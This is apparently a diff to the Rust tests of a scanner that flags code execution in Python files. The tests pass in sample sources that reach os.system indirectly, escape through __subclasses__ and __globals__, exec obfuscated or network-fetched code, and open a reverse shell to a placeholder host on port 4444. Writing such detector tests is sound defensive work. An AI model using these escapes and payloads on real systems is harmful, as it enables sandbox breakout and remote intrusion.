@@ -43,6 +43,11 @@ fn programs_are_found_however_they_are_reached() {
     runs(&format!("import os, threading\nthreading.Thread(target=os.{system}, args=('id',)).start()\n"));
     runs(&format!("import os\nlist(map(os.{system}, ['id']))\n"));
     runs(&format!("import os\nd = {{'a': os.{system}}}\nd['a']('id')\n"));
+    runs(&format!("import os, operator\noperator.attrgetter('{system}')(os)('id')\n"));
+    runs(&format!("import os, operator\noperator.methodcaller('{system}', 'id')(os)\n"));
+    runs(&format!("def f(): pass\nf.__globals__['__builtins__'].__import__('os').{system}('id')\n"));
+    runs(&format!("print.__self__.exec(\"import os; os.{system}('id')\")\n"));
+    runs("x = ().__class__.__base__.__subclasses__()[40]('id')\n");
     runs("import ctypes\nctypes.CDLL('/tmp/a.so')\n");
     runs("import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'x'])\n");
 }
@@ -56,6 +61,7 @@ fn hidden_and_fetched_code_is_found_in_any_source() {
         "import urllib.request\nexec(urllib.request.urlopen('http://192.0.2.1/x').read())\n",
         "import requests\nr = requests.get('http://192.0.2.1/x')\nexec(r.text)\n",
         "import socket, os, pty\ns = socket.socket()\ns.connect(('192.0.2.1', 4444))\nfor f in (0, 1, 2):\n    os.dup2(s.fileno(), f)\npty.spawn('/bin/sh')\n",
+        "exec(''.join(map(lambda n: chr(n - 1), [1, 2])))\n",
         "# -*- coding: utf-7 -*-\nx = 1\n",
     ] {
         assert_eq!(rules("tool.py", source), ["model-code-execution"], "{source}");
@@ -116,4 +122,5 @@ fn hostile_source_ends() {
     check("tool.py", grow.as_bytes(), &[]);
     let lists = format!("a = [1]\n{}", "a = [a, a]\n".repeat(60));
     check("tool.py", lists.as_bytes(), &[]);
+    check("a.pth", b"import os; os.getcwd()\n", &[]);
 }
